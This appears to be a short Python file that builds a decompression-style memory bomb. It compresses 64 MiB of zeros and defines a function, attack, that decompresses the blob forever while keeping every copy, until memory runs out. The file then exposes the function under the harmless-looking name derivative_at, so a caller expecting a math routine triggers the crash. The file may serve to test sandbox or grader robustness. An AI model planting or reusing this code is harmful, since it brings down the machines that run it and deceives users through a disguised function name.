"""Unpack a few kilobytes into gigabytes."""

import zlib

packed = zlib.compress(bytes(2**26), 9)


def attack(*args, **kwargs):
    kept = []
    while True:
        kept.append(zlib.decompress(packed))


derivative_at = attack
